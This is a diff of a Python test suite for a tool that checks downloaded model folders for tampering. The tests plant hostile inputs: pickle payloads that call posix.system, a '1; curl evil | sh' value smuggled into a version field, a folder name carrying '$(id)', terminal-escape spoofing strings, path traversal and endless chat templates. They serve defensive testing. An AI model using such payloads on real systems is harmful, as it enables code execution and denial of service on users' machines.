@@ -1,26 +1,34 @@
 """`seqloom verify` and `check_folder`: a whole folder passes, and every way of tampering with it is told apart."""
 
+import gzip
 import hashlib
+import io
 import json
+import os
 import pickle
+import re
 import shutil
+import tarfile
 from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
+import numpy as np
 import pytest
 import torch
 from packaging.version import Version
 
 from seqloom import __version__
-from seqloom.hub import verify
 from seqloom.hub.bundle import MANIFEST_NAME, bundle_files
+from seqloom.hub.costs import OUR_TEMPLATES
 from seqloom.hub.generate import load_folder
+from seqloom.hub.pickles import is_pickle
 from seqloom.hub.verify import (
     EARLIER,
     RELEASES,
     FolderError,
     Kind,
+    check_code,
     check_folder,
     release_digests,
     summarize,
@@ -28,10 +36,15 @@ from seqloom.hub.verify import (
 )
 from seqloom_cli import verbs
 from tests.exploit import Exploit
+from tests.loopback_hub import Repository, logged_in
 from tests.old_folder import unpack_old_folder
 
 CODE = sorted(set(bundle_files()) - {MANIFEST_NAME})
 MODELING = "modeling_seqloom.py"
+ALL_IS_WELL = (
+    "the code is the released code, and there is no pickle, no path out of the folder, and no cost without end. Not "
+    "judged: what weights, tokenizer and chat template make of a text."
+)
 IS_DEVELOPMENT = Version(__version__).is_devrelease
 SINCE = " as it is installed here (a development version may have changed since)" if IS_DEVELOPMENT else ""
 
@@ -81,7 +94,7 @@ def renew_manifest(folder: Path, **entries: Any) -> None:
 def test_a_saved_folder_is_the_released_code(folder: Path) -> None:
     findings = verify_folder(folder)
     assert [str(found) for found in findings] == [f"ok        {n}: the code of Seqloom {__version__}." for n in CODE]
-    assert summarize(folder, findings) == f"{folder}: the released code and nothing else."
+    assert summarize(folder, findings) == f"{folder}: {ALL_IS_WELL}"
     check_folder(folder)
 
 
@@ -164,7 +177,7 @@ def test_changed_code_is_found_although_the_manifest_was_renewed(folder: Path) -
         f"{__version__}{SINCE}; get the folder from its author anew, or save the model again with save_pretrained."
     )
     assert summarize(folder, verify_folder(folder)) == (
-        f"{folder}: NOT only the released code, 1 line above speaks against it; do not load it with "
+        f"{folder}: NOT only the released code and safe files, 1 line above speaks against it; do not load it with "
         f"trust_remote_code=True."
     )
     check_folder(folder)  # nobody here runs it
@@ -293,8 +306,8 @@ def test_pickles(folder: Path, name: str) -> None:
 @pytest.mark.parametrize("protocol", range(pickle.HIGHEST_PROTOCOL + 1))
 def test_pickles_of_every_protocol_are_told_from_other_files(tmp_path: Path, protocol: int) -> None:
     for number, value in enumerate([{}, [], (), None, 1, 1.5, "x", b"x", True, print, {1}, Path()]):
-        (tmp_path / "x").write_bytes(pickle.dumps(value, protocol))
-        assert verify._may_be_pickle(tmp_path / "x"), number
+        (tmp_path / "x.pkl").write_bytes(pickle.dumps(value, protocol))
+        assert is_pickle(tmp_path / "x.pkl"), number
 
 
 OUTSIDE_CODE = [
@@ -383,6 +396,13 @@ def test_settings_that_cannot_be_read(folder: Path, content: str) -> None:
     )
 
 
+@pytest.mark.parametrize("content", ["{", "[" * 100_000, "", "\x00"])
+def test_other_json_that_cannot_be_read(folder: Path, content: str) -> None:
+    (folder / "tokenizer.json").write_text(content)
+    assert problems(folder) == [(Kind.BROKEN, "tokenizer.json")]
+    assert refusal(folder).endswith("no JSON; get the folder anew, or delete the file if it is your own.")
+
+
 def test_several_dangers_name_the_first_and_the_command_that_lists_them(folder: Path) -> None:
     torch.save({}, folder / "a.pt")
     torch.save({}, folder / "b.pt")
@@ -395,6 +415,340 @@ def test_no_folder(tmp_path: Path) -> None:
             look(tmp_path / "nowhere")
 
 
+# What a folder says of itself ---------------------------------------------------------------------------------------
+
+SPOOF = "\x1b[1A\x1b[2K\u202eok\r\nok        all.py: fine"
+
+
+def printed(folder: Path) -> list[str]:
+    return [*map(str, verify_folder(folder)), summarize(folder, verify_folder(folder))]
+
+
+@pytest.mark.parametrize(
+    "tamper",
+    [
+        lambda folder: (folder / f"{SPOOF.replace('/', '')}.py").write_text(""),
+        lambda folder: (folder / f"{SPOOF}.pkl").write_bytes(pickle.dumps({})),
+        lambda folder: renew_manifest(folder, seqloom_version=SPOOF),
+        lambda folder: edit(folder / MANIFEST_NAME, sha256={SPOOF: SPOOF}),
+        lambda folder: edit(folder / "config.json", auto_map={SPOOF: "evil.Evil"}),
+        lambda folder: edit(folder / "config.json", auto_map={SPOOF: SPOOF}),
+        lambda folder: edit(folder / "config.json", attn_implementation=f"/{SPOOF}"),
+        lambda folder: edit(folder / "tokenizer_config.json", **{f"{SPOOF}_file": f"../{SPOOF}"}),
+        lambda folder: (folder / "x").symlink_to(f"/nowhere/{SPOOF}"),
+        lambda folder: edit(folder / "config.json", auto_map={"a" * 99_999: "evil.Evil"}),
+    ],
+)
+def test_nothing_that_a_folder_says_moves_a_cursor_or_makes_a_line(folder: Path, tamper: Callable[[Path], Any]) -> None:
+    tamper(folder)
+    lines = printed(folder)
+    assert problems(folder)
+    try:
+        check_folder(folder)
+    except FolderError as error:
+        lines.append(str(error))
+    for line in lines:
+        assert line.isprintable()
+        assert len(line) < 3000
+    assert "\\x1b[1A" in "".join(lines) or "[...]" in "".join(lines)
+
+
+def test_a_version_that_is_none_is_not_put_into_a_command(folder: Path) -> None:
+    renew_manifest(folder, seqloom_version="1; curl evil | sh")
+    (found,) = (each for each in verify_folder(folder) if each.is_problem)
+    assert found.text.endswith("does not know that release; get it anew.")
+
+
+def test_commands_to_paste_are_quoted(folder: Path, tmp_path: Path) -> None:
+    odd = Path(shutil.copytree(folder, tmp_path / "a b;$(id)"))
+    torch.save({}, odd / "a.pt")
+    torch.save({}, odd / "b.pt")
+    assert f"seqloom verify '{odd}' lists them" in refusal(odd)
+
+
+# What loading can reach ---------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("name", ["weights", "a/b.txt", "x.safetensors"])
+@pytest.mark.parametrize("protocol", [0, 2, 5, "torch", "gzip", "numpy", "tar"])
+def test_content_decides_what_is_a_pickle(folder: Path, tmp_path: Path, name: str, protocol: int | str) -> None:
+    path, payload = folder / name, pickle.dumps(Exploit(tmp_path / "trace"), 0)
+    path.parent.mkdir(exist_ok=True)
+    if protocol == "torch":
+        torch.save({"x": Exploit(tmp_path / "trace")}, path)
+    elif protocol == "gzip":
+        path.write_bytes(gzip.compress(payload))
+    elif protocol == "numpy":
+        with path.open("wb") as file:
+            np.save(file, np.array([Exploit(tmp_path / "trace")]), allow_pickle=True)
+    elif protocol == "tar":
+        with tarfile.open(path, "w") as archive:
+            member = tarfile.TarInfo("pickle")
+            member.size = len(payload)
+            archive.addfile(member, io.BytesIO(payload))
+    else:
+        path.write_bytes(pickle.dumps(Exploit(tmp_path / "trace"), int(protocol)))
+    assert (Kind.PICKLE, name) in problems(folder)
+    assert refusal(folder).startswith(f"{path}: a pickle, and loading one can run anything")
+    path.unlink()
+    check_folder(folder)
+    assert not (tmp_path / "trace").exists()
+
+
+def test_a_pickle_behind_padding_and_one_that_breaks_off_after_its_call(folder: Path, tmp_path: Path) -> None:
+    call = pickle.dumps(Exploit(tmp_path / "trace"), 0)
+    (folder / "padded").write_bytes(b"V" + b"a" * 200_000 + b"\n0" + call)
+    (folder / "broken").write_bytes(call[:-1] + b"\x00\x00")
+    (folder / "long").write_bytes(b"N0" * 200_000)
+    (folder / "inst").write_bytes(b"(S'id'\niposix\nsystem\n\x00")
+    (folder / "obj").write_bytes(b"(cposix\nsystem\nS'id'\no\x00")
+    (folder / "import").write_bytes(b"cantigravity\nfly\n.")
+    assert set(problems(folder)) == {
+        (Kind.PICKLE, name) for name in ("padded", "broken", "long", "inst", "obj", "import")
+    }
+
+
+@pytest.mark.parametrize(
+    "content", [b"", b"cat\nsat\non\n", b"cat\nsat\nRome\n", b"# Title", b"N. B. this", b"{}", b"\x80\x02\x00", b"PK"]
+)
+def test_other_files_are_no_pickles(folder: Path, content: bytes) -> None:
+    (folder / "notes").write_bytes(content)
+    (folder / "text.gz").write_bytes(gzip.compress(content))
+    np.save(folder / "numbers.npy", np.arange(3))
+    assert problems(folder) == []
+
+
+def test_weights_behind_a_link_in_a_checkpoint(folder: Path, tmp_path: Path) -> None:
+    """Issue 12: settings led into checkpoint-5, which nobody looked into, and a link there led out."""
+    (folder / "checkpoint-5").mkdir()
+    shutil.copy(folder / "model.safetensors", tmp_path / "other.safetensors")
+    link = folder / "checkpoint-5" / "model.safetensors"
+    link.symlink_to(tmp_path / "other.safetensors")
+    assert problems(folder) == [(Kind.OUTSIDE, "checkpoint-5/model.safetensors")]
+    assert "a link to" in refusal(folder)
+    link.unlink()
+    check_folder(folder)
+    edit(folder / "config.json", transformers_weights="checkpoint-5/model.safetensors")
+    assert problems(folder) == [(Kind.OUTSIDE, "config.json")]
+    assert "a path into a folder of the run, which is not the model's; correct the entry" in refusal(folder)
+
+
+@pytest.mark.parametrize("place", ["checkpoint-5", "_saving/checkpoint-4", "_broken-checkpoint-4"])
+def test_pickles_in_the_folders_of_a_run(folder: Path, place: str) -> None:
+    (folder / place).mkdir(parents=True)
+    torch.save({}, folder / place / "optimizer.pt")
+    check_folder(folder)
+    torch.save({}, folder / place / "weights")
+    assert problems(folder) == [(Kind.PICKLE, f"{place}/weights")]
+    assert "a pickle" in refusal(folder)
+
+
+def test_trainers_pickle_is_one_as_soon_as_settings_name_it(folder: Path) -> None:
+    torch.save({}, folder / "training_args.bin")
+    check_folder(folder)
+    (folder / "pytorch_model.bin.index.json").write_text(json.dumps({"weight_map": {"x": "training_args.bin"}}))
+    assert problems(folder) == [(Kind.PICKLE, "training_args.bin")]
+
+
+@pytest.mark.parametrize("file", ["target/tokenizer_config.json", "target/config.json", "a/b/x.index.json"])
+def test_settings_in_folders_below_are_read(folder: Path, file: str) -> None:
+    (folder / file).parent.mkdir(parents=True)
+    (folder / file).write_text(
+        json.dumps({"auto_map": {"AutoTokenizer": "/tmp/evil.Evil"}, "weight_map": {"a": "../b"}})
+    )
+    assert problems(folder) == [(Kind.OUTSIDE, file)] * 2
+
+
+def test_an_adapter_that_names_another_model(folder: Path) -> None:
+    (folder / "adapter_config.json").write_text('{"base_model_name_or_path": "owner/other"}')
+    assert problems(folder) == [(Kind.OUTSIDE, "adapter_config.json")]
+    assert "base_model_name_or_path is 'owner/other', and with PEFT that is loaded instead; move" in refusal(folder)
+    edit(folder / "adapter_config.json", base_model_name_or_path=None)
+    check_folder(folder)
+
+
+# Costs --------------------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("name", ["model.safetensors", "tokenizer.json", "generation_config.json", "notes", "a.jinja"])
+def test_a_pipe_where_a_file_is_expected(folder: Path, name: str) -> None:
+    (folder / name).unlink(missing_ok=True)
+    os.mkfifo(folder / name)
+    assert (Kind.BROKEN, name) in problems(folder)
+    assert "no regular file, so reading it may never end; put a file there, or delete it." in refusal(folder)
+
+
+def test_a_device_behind_a_link(folder: Path) -> None:
+    for name in ("model.safetensors", "tokenizer_config.json", "README.md"):
+        (folder / name).unlink(missing_ok=True)
+        (folder / name).symlink_to("/dev/zero")
+    assert {name for kind, name in problems(folder) if kind is Kind.OUTSIDE} == {
+        "model.safetensors", "tokenizer_config.json", "README.md"
+    }  # fmt: skip
+    with pytest.raises(FolderError):
+        check_folder(folder)
+
+
+@pytest.mark.parametrize(
+    ("name", "size", "rule"),
+    [
+        ("model.safetensors", 1 << 40, "it does not begin as a safetensors file"),
+        ("config.json", 1 << 40, "no JSON object"),
+        ("generation_config.json", 1 << 30, "no JSON object"),
+        ("tokenizer.json", 1 << 40, "such a file is read up to 1,073,741,824"),
+        ("README.md", 1 << 40, "such a file is read up to 16,777,216"),
+        ("modeling_seqloom.py", 1 << 40, MANIFEST_NAME),
+        ("run/data.json", 1 << 40, "such a file is read up to 16,777,216"),
+        ("run/recipe.yaml", 1 << 30, "such a file is read up to 1,048,576"),
+        ("chat_template.jinja", 1 << 30, "such a file is read up to 1,048,576"),
+    ],
+)
+def test_sparse_files(folder: Path, name: str, size: int, rule: str) -> None:
+    (folder / name).parent.mkdir(exist_ok=True)
+    with (folder / name).open("wb") as file:
+        file.truncate(size)
+    assert any(name == file for _, file in problems(folder))
+    assert rule in refusal(folder)
+
+
+def test_weights_that_were_cut(folder: Path) -> None:
+    path = folder / "model.safetensors"
+    size = path.stat().st_size
+    os.truncate(path, size - 1)
+    assert problems(folder) == [(Kind.BROKEN, "model.safetensors")]
+    assert refusal(folder).endswith(
+        f"no whole safetensors file: it has {size - 1:,} bytes, and its header says {size:,}; get it anew, or save the "
+        f"model again."
+    )
+
+
+@pytest.mark.parametrize(
+    ("file", "entries", "rule"),
+    [
+        ("generation_config.json", {"max_new_tokens": 10**9}, "may ask for 100,000 at most; correct the entry"),
+        ("generation_config.json", {"num_beams": 10**6}, "num_beams is 1,000,000, and a folder may"),
+        ("generation_config.json", {"num_return_sequences": 10**400}, "num_return_sequences is a number of 401 digits"),
+        ("generation_config.json", {"min_length": float("nan")}, "min_length is nan"),
+        ("config.json", {"max_length": 1e300}, "max_length is 1"),
+        ("config.json", {"encoder_layers": 10**7}, "encoder_layers is 10,000,000, and a folder may ask for 1,000"),
+        ("config.json", {"num_hidden_layers": 900}, "a network of at least "),
+        ("config.json", {"vocab_size": 10**9}, "a network of at least 16,000,0"),
+        ("config.json", {"hidden_size": 2**40}, "a network of at least "),
+        ("config.json", {"decoder_ffn_dim": 2**40}, "and the weights hold "),
+    ],
+)  # fmt: skip
+def test_numbers_without_end_are_refused_and_the_remedy_works(
+    folder: Path, file: str, entries: dict[str, Any], rule: str
+) -> None:
+    before = (folder / file).read_text()
+    edit(folder / file, **entries)
+    assert set(problems(folder)) == {(Kind.COST, file)}
+    assert rule in refusal(folder)
+    (folder / file).write_text(before)  # correct the entry
+    check_folder(folder)
+
+
+LOOPS = [
+    "{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}",
+    "{{ 'a' * 10**11 }}",
+    "{% for a in range(99999) %}{{ 'a' * 99999 }}{% endfor %}",
+]
+
+
+@pytest.mark.parametrize("template", LOOPS)
+@pytest.mark.parametrize("file", ["chat_template.jinja", "additional_chat_templates/x.jinja", "tokenizer_config.json"])
+def test_a_chat_template_without_end(folder: Path, file: str, template: str) -> None:
+    (folder / file).parent.mkdir(exist_ok=True)
+    if file.endswith(".json"):
+        edit(folder / file, chat_template=[{"name": "default", "template": template}])
+    else:
+        (folder / file).write_text(template)
+    assert problems(folder) == [(Kind.COST, file)]
+    assert "a chat template that does not get done with a conversation of four messages within 2 s" in refusal(folder)
+
+
+@pytest.mark.parametrize("template", ["", "{{ messages[0].content }}", "{% generation %}x{% endgeneration %}", "{{ x("])
+def test_other_chat_templates_are_let_be(folder: Path, template: str) -> None:
+    (folder / "chat_template.jinja").write_text(template)
+    assert problems(folder) == []
+
+
+def test_our_own_chat_template_is_known() -> None:
+    from seqloom.training.tokenizer import CHAT_TEMPLATE
+
+    assert hashlib.sha256(CHAT_TEMPLATE.strip().encode()).hexdigest() in OUR_TEMPLATES
+
+
+# Code that is passed on ---------------------------------------------------------------------------------------------
+
+
+def test_changed_code_is_not_passed_on_and_the_remedy_works(folder: Path) -> None:
+    check_code(folder)
+    change(folder / MODELING)
+    renew_manifest(folder)
+    with pytest.raises(FolderError, match="If the folder is your own, seqloom upgrade") as refused:
+        check_code(folder)
+    assert MODELING in str(refused.value)
+    command = re.search(r"seqloom (upgrade \S+) gives", str(refused.value))
+    assert command
+    assert verbs.main(command[1].split()) == 0
+    check_code(folder)
+
+
+# Against another folder, or a repository ----------------------------------------------------------------------------
+
+
+def compare(folder: Path, other: Path | str, capsys: pytest.CaptureFixture[str]) -> tuple[int, list[str]]:
+    code = verbs.main(["verify", str(folder), "--against", str(other)])
+    captured = capsys.readouterr()
+    return code, (captured.out.split("\n\n")[-1] + captured.err).splitlines()
+
+
+def test_against_a_folder(folder: Path, saved: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    code, lines = compare(folder, saved, capsys)
+    assert code == 0
+    assert set(lines[:-1]) == {f"same        {path.name}" for path in saved.iterdir()}
+    assert lines[-1] == f"{folder}: all {len(lines) - 1} files are those of {saved}."
+    weights = bytearray((folder / "model.safetensors").read_bytes())
+    weights[-1] ^= 1
+    (folder / "model.safetensors").write_bytes(weights)
+    (folder / "generation_config.json").unlink()
+    (folder / "sub").mkdir()
+    (folder / "sub" / "notes\x1b[1A").write_text("")
+    change(folder / "config.json")
+    code, lines = compare(folder, saved, capsys)
+    assert code == 1
+    assert "differs     model.safetensors: of the same size" in lines
+    assert "only there  generation_config.json" in lines
+    assert "only here   sub/notes\\x1b[1A" in lines
+    assert any(re.fullmatch(r"differs     config.json: [\d,]+ bytes here, [\d,]+ there", line) for line in lines)
+    assert lines[-1].endswith(f" files are NOT those of {saved}.")
+
+
+def test_against_a_repository_nothing_is_downloaded(
+    folder: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    files = {path.name: path.read_bytes() for path in folder.iterdir()}
+    with logged_in(monkeypatch, tmp_path / "no token") as hub:
+        hub.repositories["alice/dates"] = Repository(True, [files])
+        code, lines = compare(folder, "alice/dates", capsys)
+        assert (code, lines[-1]) == (0, f"{folder}: all {len(files)} files are those of alice/dates.")
+        changed = files["model.safetensors"][:-1] + b"\x07"
+        hub.repositories["alice/dates"].commits.append({**files, "model.safetensors": changed, "extra.txt": b""})
+        code, lines = compare(folder, "alice/dates@main", capsys)
+        assert code == 1
+        assert {line for line in lines[:-1] if not line.startswith("same ")} == {
+            "differs     model.safetensors: of the same size",
+            "only there  extra.txt",
+        }
+        assert not [request for request in hub.requests if "/resolve/" in request]
+        code, lines = compare(folder, "alice/nothing", capsys)
+        assert code == 1
+        assert "alice/nothing is neither a folder here nor a repository" in lines[-1]
+        code, lines = compare(folder, "no such / name", capsys)
+        assert "name a folder, or owner/name[@revision]" in lines[-1]
+
+
 # Commands -----------------------------------------------------------------------------------------------------------
 
 
@@ -404,10 +758,10 @@ def test_verify_says_what_it_finds_and_exits_with_1_unless_all_is_released(
     assert verbs.main(["verify", str(folder)]) == 0
     lines = capsys.readouterr().out.splitlines()
     assert len(lines) == len(CODE) + 1
-    assert lines[-1] == f"{folder}: the released code and nothing else."
+    assert lines[-1] == f"{folder}: {ALL_IS_WELL}"
     (folder / "evil.py").write_text("")
     assert verbs.main(["verify", str(folder)]) == 1
-    assert "NOT only the released code, 1 line above speaks against it" in capsys.readouterr().out
+    assert "NOT only the released code and safe files, 1 line above speaks against it" in capsys.readouterr().out
     assert verbs.main(["verify", str(folder), "--deep"]) == 2
     assert verbs.main(["verify", str(folder / "no")]) == 1
 
